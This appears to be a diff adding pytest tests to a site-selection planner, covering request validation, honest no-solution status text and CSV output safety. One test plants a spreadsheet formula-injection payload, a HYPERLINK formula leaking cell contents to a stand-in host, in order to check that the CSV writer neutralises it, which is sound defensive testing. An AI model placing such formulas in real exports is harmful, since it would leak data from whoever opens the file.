@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import itertools
 
 import numpy as np
@@ -168,3 +169,77 @@ def test_minimum_spacing_keeps_chosen_sites_apart(
     # the sites left out for the rule say which chosen site is too close, in metres
     blocked = [r for r in selection.candidates("en")["reason"] if "too close to chosen site" in r]
     assert blocked and all(f"m < {spacing:,.0f} m spacing" in r for r in blocked)
+
+
+# --- issue 14: every request field is checked and named; the status and CSV are honest --------
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("p", 2.5),
+        ("p", True),
+        ("p", "12"),
+        ("p", None),
+        ("p", 10**30),
+        ("threshold_min", float("nan")),
+        ("threshold_min", float("inf")),
+        ("threshold_min", 0),
+        ("emphasis_factor", float("nan")),
+        ("emphasis_factor", 1e300),
+        ("time_limit", -1.0),
+        ("time_limit", float("nan")),
+        ("time_limit", 1e12),
+        ("seed", -1),
+        ("emphasis", None),
+        ("model", ["mclp"]),
+        ("rules", {"min_spacing_m": 1}),
+    ],
+)
+def test_every_request_field_is_checked(field: str, value: object) -> None:
+    from planner.region_selection import SelectionRequestError
+
+    with pytest.raises(SelectionRequestError) as info:
+        SelectionRequest(**{field: value})  # type: ignore[arg-type]
+    assert info.value.field == field
+    assert str(info.value).startswith(f"selection.{field} = ")
+
+
+def test_request_numbers_are_normalised() -> None:
+    request = SelectionRequest(p=np.int64(3), threshold_min=20, time_limit=5)  # type: ignore[arg-type]
+    assert type(request.p) is int and type(request.threshold_min) is float
+    assert request == SelectionRequest(p=3, threshold_min=20.0, time_limit=5.0)
+
+
+def test_no_selection_within_the_time_limit_is_said_honestly(
+    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
+) -> None:
+    from planner.selection import SelectionResult
+
+    sites, minutes = small
+    selection = select_sites(pack, SelectionRequest(p=2), sites=sites, minutes=minutes)
+    assert selection.found
+    empty = SelectionResult("MCLP", "no_solution", [], np.nan, np.nan, np.nan, 3.0, {})
+    none = dataclasses.replace(selection, result=empty)
+    assert not none.found
+    assert "nan" not in none.status_text("en")
+    assert "this does not prove the rules infeasible" in none.status_text("en")
+    assert "unerfüllbar ist damit nicht bewiesen" in none.status_text("de")
+
+
+def test_selection_csv_goes_through_the_safe_writer(
+    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
+) -> None:
+    import csv
+    import io
+
+    sites, minutes = small
+    hostile = sites.copy()
+    hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
+    hostile.loc[1, "name"] = "@SUM(A1)"
+    selection = select_sites(pack, SelectionRequest(p=2), sites=hostile, minutes=minutes)
+    rows = list(csv.DictReader(io.StringIO(selection.csv_bytes("de").decode("utf-8"))))
+    assert len(rows) == len(sites)
+    names = [r["name"] for r in rows]
+    assert names[0] == "'" + hostile.loc[0, "name"] and names[1] == "'@SUM(A1)"
+    assert not [v for r in rows for v in r.values() if v[:1] in ("=", "+", "@")]
